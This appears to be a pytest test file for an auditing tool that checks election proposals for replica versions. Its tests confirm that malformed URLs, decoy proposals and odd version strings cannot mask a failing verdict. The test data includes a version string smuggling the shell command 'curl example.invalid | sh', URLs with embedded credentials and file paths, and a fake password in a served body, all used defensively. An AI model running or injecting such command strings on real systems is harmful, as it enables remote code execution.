"""What a proposer writes into an election, or a host says about one, decides nothing that it should not."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest
from election_world import certified

from auditkit.evidence import save_proposal
from auditkit.ic import (
    EXECUTE_ACTION,
    GET_PROPOSAL_INFO,
    ExecuteNnsFunction,
    Proposal,
    ProposalInfo,
    ProposalStatus,
    encode_nat64_argument,
)
from auditkit.pipeline import Parameters, base_version, check, fetch_proposal, replay, write_report
from auditkit.pipeline import audit as audit_module
from auditkit.practice.network import running
from auditkit.practice.nns.election_payload import election_payload
from auditkit.practice.nns.governance_reply import encode_proposal_reply
from auditkit.practice.nns.releases import Release, release
from auditkit.practice.scenarios import BASE_COMMIT
from auditkit.progress import Silent
from auditkit.report import to_json
from auditkit.trust import trust_named

NUMBER = 700_001


@pytest.fixture
def server() -> str:
    """The address of the practice release server, which the process keeps."""
    return running("honest").url


@pytest.fixture(autouse=True)
def own_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("AUDITKIT_CACHE", str(tmp_path / "cache"))


class Serving(BaseHTTPRequestHandler):
    """Gives the same bytes for every path, and notes what was asked for."""

    protocol_version = "HTTP/1.1"
    body = b"another file"
    chunked = False
    asked: list[str]

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        if self.chunked:
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            self.wfile.write(b"%x\r\n%b\r\n0\r\n\r\n" % (len(self.body), self.body))
        else:
            self.send_header("Content-Length", str(len(self.body)))
            self.end_headers()
            self.wfile.write(self.body)


@pytest.fixture
def serving() -> Iterator[Callable[..., tuple[str, list[str]]]]:
    """Starts a server that gives ``body``, and gives its address and the paths that are asked for."""
    servers = []

    def start(body: bytes = b"another file", *, chunked: bool = False) -> tuple[str, list[str]]:
        handler = type("Handler", (Serving,), {"body": body, "chunked": chunked, "asked": []})
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        servers.append(server)
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        return f"http://127.0.0.1:{server.server_port}", handler.asked

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def proposed(folder: Path, told: Release, status: ProposalStatus = ProposalStatus.OPEN) -> Path:
    """A certified election proposal in a file, with its request beside it."""
    now = int(time.time())
    executed = now - 100 if status is ProposalStatus.EXECUTED else 0
    info = ProposalInfo(
        id=NUMBER,
        status_number=status,
        topic=13,
        proposer=7,
        proposal=Proposal(
            "Elect",
            "",
            "why",
            EXECUTE_ACTION,
            None,
            execute=ExecuteNnsFunction(38, election_payload(told, ())),
        ),
        latest_tally=None,
        proposal_timestamp_seconds=now - 3600,
        deadline_timestamp_seconds=now + 86_400,
        decided_timestamp_seconds=executed,
        executed_timestamp_seconds=executed,
        failed_timestamp_seconds=0,
        reject_cost_e8s=1,
        failure_reason=None,
    )
    reply = encode_proposal_reply(info)
    call = certified(GET_PROPOSAL_INFO, encode_nat64_argument(NUMBER), reply, (now - 60) * 10**9)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "proposal.cbor"
    path.write_bytes(call.certificate)
    path.with_suffix(".request.cbor").write_bytes(call.request)
    return path


def audited(proposal: Path, **more: object):
    values = {"subject": "election", "proposal_id": NUMBER, "stage": "vote", "root_key": "practice"}
    values |= {"proposal_source": str(proposal), "election_source": None}
    return check(Parameters.from_mapping(values | more), Silent())


def outcome(document, name: str) -> str:
    return next(one.outcome.value for one in document.decisions if one.id == name)


ODD = [
    "https://example.invalid/{x}/image.tar.zst",
    "https://example.invalid/{base_version}/image.tar.zst",
    "https://example.invalid/an image.tar.zst",
    "https://user:password@example.invalid/image.tar.zst",
    "https://[::1/image.tar.zst",
    "https:///image.tar.zst",
    "practice:honest",
    "/etc/hostname",
    "file:///etc/hostname",
]


@pytest.mark.parametrize("url", ODD)
def test_an_odd_address_hides_no_failure_of_the_proposal(url, server, tmp_path):
    told = replace(release(BASE_COMMIT, server), urls=(url,), measurements=None)
    document, evidence = audited(proposed(tmp_path, told))
    assert document.verdict == "FAIL"
    assert outcome(document, "election.measurements-given") == "fail"
    write_report(document, evidence, tmp_path / "report")
    again, _ = replay(tmp_path / "report" / "evidence", Silent())
    assert again.verdict == "FAIL"


def test_an_odd_address_does_not_stop_the_next_from_being_asked(server, tmp_path):
    right = release(BASE_COMMIT, server)
    told = replace(right, urls=("https://user:password@example.invalid/{x}", *right.urls))
    document, _ = audited(proposed(tmp_path, told))
    assert document.verdict == "PASS"
    assert outcome(document, "election.image") == "warn"


@pytest.mark.parametrize("version", ["x" * 5_000, "x; curl example.invalid | sh #", BASE_COMMIT.upper()])
def test_an_odd_version_hides_no_failure_and_is_no_command(version, server, tmp_path):
    told = replace(release(BASE_COMMIT, server), version=version)
    path = proposed(tmp_path, told, ProposalStatus.EXECUTED)
    document, _ = audited(path, stage="recover", election_source="registry")
    assert document.verdict == "FAIL"
    assert outcome(document, "election.version") == "fail"
    assert not any("curl" in trouble.hint for trouble in document.trouble)


def test_another_image_at_the_address_fails_also_in_chunks(server, serving, tmp_path):
    for chunked in (False, True):
        address, _ = serving(chunked=chunked)
        told = replace(release(BASE_COMMIT, server), urls=(f"{address}/{BASE_COMMIT}/update-img.tar.zst",))
        document, _ = audited(proposed(tmp_path / str(chunked), told))
        assert (document.verdict, outcome(document, "election.image")) == ("FAIL", "fail")


def test_each_address_is_asked_where_all_are_asked_for(server, serving, tmp_path):
    address, asked = serving()
    right = release(BASE_COMMIT, server)
    path = proposed(tmp_path, replace(right, urls=(*right.urls, f"{address}/{BASE_COMMIT}/image.tar.zst")))
    document, _ = audited(path)
    assert (document.verdict, asked) == ("PASS", [])
    document, _ = audited(path, all_urls=True)
    assert (document.verdict, outcome(document, "election.image")) == ("FAIL", "fail")
    assert asked == [f"/{BASE_COMMIT}/image.tar.zst"]


def test_nothing_beside_an_address_is_asked_for_or_kept(server, serving, tmp_path):
    address, asked = serving(b"password=hunter2\n")
    told = replace(release(BASE_COMMIT, server), urls=(f"{address}/admin/{BASE_COMMIT}",))
    document, evidence = audited(proposed(tmp_path, told))
    assert document.verdict == "FAIL"
    assert asked == [f"/admin/{BASE_COMMIT}"]
    assert not any(b"hunter2" in item.content for item in evidence if isinstance(item.content, bytes))


def test_of_many_addresses_a_few_are_asked(server, serving, tmp_path):
    address, asked = serving()
    right = release(BASE_COMMIT, server)
    many = tuple(f"{address}/{BASE_COMMIT}/{number}" for number in range(60))
    document, evidence = audited(proposed(tmp_path, replace(right, urls=(*right.urls, *many))), all_urls=True)
    assert document.verdict == "FAIL"
    assert len(asked) == 15  # sixteen, and the first is the release server's
    write_report(document, evidence, tmp_path / "report")
    again, _ = replay(tmp_path / "report" / "evidence", Silent())
    assert to_json(again.model_copy(update={"run": document.run})) == to_json(document)


def test_an_image_that_was_here_already_says_nothing_about_the_address(server, tmp_path, monkeypatch):
    monkeypatch.setattr(audit_module, "is_loopback", lambda url: False)
    path = proposed(tmp_path, release(BASE_COMMIT, server))
    assert outcome(audited(path)[0], "election.image") == "pass"
    assert outcome(audited(path)[0], "election.image") == "warn"
    assert outcome(audited(path, all_urls=True)[0], "election.image") == "pass"


def test_an_executed_election_is_compared_with_the_registry_also_at_stage_vote():
    document, _ = check(
        Parameters.from_mapping(
            {
                "subject": "election",
                "proposal_id": 910_027,
                "stage": "vote",
                "root_key": "practice",
                "proposal_source": "practice:election-record-differs",
            }
        ),
        Silent(),
    )
    assert (document.verdict, document.deciding.decision) == ("FAIL", "election.record")


def test_a_registry_that_says_nothing_is_told_beside_a_witness(tmp_path):
    """A host that answers about proposals and not about the registry cannot make that look like an answer."""
    network = running("unelected-with-proposal")
    witness = tmp_path / "witness.cbor"
    save_proposal(witness, fetch_proposal((network.url,), 910_003))
    values = {"proposal_id": 900_036, "base_version": BASE_COMMIT, "root_key": "practice"}
    values |= {"proposal_source": "practice:unelected-with-proposal", "election_source": str(witness)}
    values |= {"base_image": "practice:unelected-with-proposal"}
    document, _ = check(Parameters.from_mapping(values), Silent())
    assert (document.verdict, outcome(document, "election.elected")) == ("PASS", "warn")


@pytest.mark.parametrize(
    ("status", "version"), [(ProposalStatus.REJECTED, "a" * 40), (ProposalStatus.EXECUTED, "not a version")]
)
def test_a_decoy_with_the_right_measurements_is_not_taken_for_the_base(
    status, version, monkeypatch, tmp_path
):
    """Proposals that were voted down, or name no version, elected nothing."""
    measured = release(BASE_COMMIT, "http://127.0.0.1").measurements or ()

    def entry(status: ProposalStatus, version: str) -> SimpleNamespace:
        return SimpleNamespace(status=status, election=SimpleNamespace(version_to_elect=version))

    found = (entry(status, version), entry(ProposalStatus.EXECUTED, BASE_COMMIT))
    catalogue = SimpleNamespace(with_measurement=lambda measurement: found)
    monkeypatch.setattr(base_version, "opened_catalogue", lambda folder, trust: catalogue)
    parameters = Parameters.from_mapping(
        {"proposal_id": 900_001, "base_version": "auto", "catalogue": str(tmp_path), "root_key": "practice"}
    )
    assert base_version.found_base_version(parameters, trust_named("practice"), measured) == BASE_COMMIT
